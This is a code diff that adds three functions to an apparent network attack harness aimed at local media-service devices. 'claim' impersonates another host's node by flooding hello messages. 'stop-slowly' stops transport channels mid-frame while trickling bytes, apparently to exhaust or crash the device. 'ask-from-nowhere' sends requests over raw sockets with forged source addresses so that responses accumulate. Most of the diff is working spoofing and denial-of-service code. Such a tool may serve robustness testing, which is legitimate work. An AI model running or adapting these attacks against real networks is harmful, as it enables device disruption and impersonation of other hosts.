@@ -143,6 +143,18 @@ def restart(seconds, *types):
     )
 
 
+def claim(device_type, ports):
+    """Says hello from many ports in the name of another host's node: from closed ones, or from silent ones."""
+    (device,) = listen_for(device_type)
+    silent = [open_socket() for _ in range(64)] if ports == "silent" else []
+    numbers = [own.getsockname()[1] for own in silent] or range(2000, 30000)
+
+    def claimed():
+        return wire.Node(ADDRESS, random.choice(numbers), device.id, device.instance, device.type)
+
+    send_all((wire.hello(claimed(), number(16)), wire.GROUP) for _ in paced(100000, 1000))
+
+
 def invent(count, rate):
     send_all((wire.hello(invented(), number(16)), wire.GROUP) for _ in paced(int(count), float(rate)))
 
@@ -197,6 +209,45 @@ def set_up_as(device_type, other_type, port):
             yield wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), value, [option]), to
 
     send_all(datagrams())
+
+
+def stop_slowly(device_type):
+    """Opens data channels and stops each in the middle of a frame, which goes on byte by byte."""
+    (device,) = listen_for(device_type)
+    to = (device.address, device.port)
+
+    def ask(own, code, key, value=b""):
+        token = os.urandom(8)
+        own.sendto(wire.request(code, key, number(16), token, value, [wire.requester(invented())]), to)
+        while True:
+            answer = wire.decode(own.recv(2048))
+            if answer.kind == wire.CON:
+                own.sendto(wire.encode(wire.ACK, 0, answer.message_id), to)
+            if answer.token == token:
+                return
+
+    def stop(own):
+        ask(own, wire.PUT, "StopTransport")
+        say("stopped")
+
+    def go_on(channel):
+        try:
+            channel.send(b"x")
+        except OSError:
+            pass
+
+    with open_socket() as own, socket.create_server(("", 7001)) as listener:
+        say("ready")
+        while True:
+            ask(own, wire.GET, ".sys.mediaservice.setup", setup_string(7000))
+            back, _ = listener.accept()
+            with back, socket.create_connection(to[:1] + (7000,)) as channel:
+                channel.sendall(struct.pack("<BIB", 6, 5000000, 1))
+                stopping = threading.Thread(target=stop, args=(own,))
+                stopping.start()
+                while stopping.is_alive():
+                    go_on(channel)
+                    stopping.join(0.1)
 
 
 def listen(port):
@@ -381,6 +432,19 @@ def forge(kind, device_type, victim, count, rate):
     say("done", size)
 
 
+def ask_from_nowhere(device_type, hosts):
+    """Asks in the name of addresses that no host has, by unicast and by the group, so that the answers stay."""
+    (device,) = listen_for(device_type)
+    say("ready")
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
+        for at in paced(100000, 1500):
+            source = (f"10.77.0.{100 + at % int(hosts)}", random.randint(1024, 65535))
+            to = wire.GROUP if at % 3 == 0 else (device.address, device.port)
+            asked = wire.core(number(16), os.urandom(8))
+            raw.sendto(forged(source, to, wire.probe(device_type) if at % 3 == 0 else asked), to)
+
+
 def recorded(path, *to):
     """The UDP datagrams of a recording of an Ethernet that went to one of the addresses: (source, destination, payload)."""
     with open(path, "rb") as opened:
@@ -456,16 +520,19 @@ ATTACKS = {
     "close-every-request": close_every_request,
     "part": part,
     "restart": restart,
+    "claim": claim,
     "invent": invent,
     "fill": fill,
     "set-up": set_up,
     "set-up-as": set_up_as,
+    "stop-slowly": stop_slowly,
     "listen": listen,
     "hold": hold,
     "pretend": pretend,
     "connect": connect,
     "pester": pester,
     "forge": forge,
+    "ask-from-nowhere": ask_from_nowhere,
     "replay": replay,
     "suffer": suffer,
     "foreign": foreign,
